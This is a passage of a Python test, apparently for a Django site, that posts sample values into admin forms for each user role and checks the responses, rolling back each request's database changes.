    assert len(forms) >= 14
    problems = []
    role_client = Client(raise_request_exception=False)
    if admin_people[role] is not None:
        role_client.force_login(admin_people[role])
    values = ADMIN_SAMPLE if role in ("editor", "moderator", "superuser") else ADMIN_SAMPLE[:2]
    for model, _obj, url, pairs, typed in forms:
        for value in values:
            for action in ([], ["action-publish"]):
                body = "&".join(
                    [
                        urlencode([(n, v) for n, v in pairs if n not in typed or n == "csrfmiddlewaretoken"]),
                        *(f"{name}={encoded}" for name in sorted(typed) for encoded in value.raw),
                        *(f"{a}=1" for a in action),
                    ]
                )
                try:  # each request meets the same database: rolled back after the checks
                    with transaction.atomic():
                        problems += post_and_check(role_client, role, model, url, body, value, action)
                        raise _RolledBack
                except _RolledBack:
                    pass
    assert not problems, "\n".join(problems[:40])
